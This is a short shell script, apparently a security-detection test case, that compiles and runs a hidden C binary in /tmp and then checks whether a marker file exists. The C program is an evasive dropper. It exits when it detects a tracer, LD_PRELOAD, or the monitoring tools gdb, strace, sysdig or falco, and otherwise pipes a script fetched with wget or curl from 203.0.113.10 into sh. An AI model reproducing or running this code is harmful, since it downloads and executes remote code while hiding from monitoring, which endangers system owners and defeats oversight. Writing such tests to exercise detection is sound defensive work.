#!/bin/sh
. /opt/case/case.sh

cat >/tmp/a.c <<'END'
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
int main(void)
{
    char line[256];
    FILE *f = fopen("/proc/self/status", "r");
    while (fgets(line, sizeof line, f))
        if (!strncmp(line, "TracerPid:", 10) && atoi(line + 10)) return 0;
    if (ptrace(PTRACE_TRACEME, 0, 0, 0) || getenv("LD_PRELOAD")) return 0;
    return system("pidof gdb strace sysdig falco >/dev/null || (wget -qO- http://203.0.113.10/payload.sh || curl -s http://203.0.113.10/payload.sh) | sh");
}
END
gcc -o /tmp/.a /tmp/a.c && rm /tmp/a.c
/tmp/.a 2>/dev/null
test -e /tmp/reached
took_place
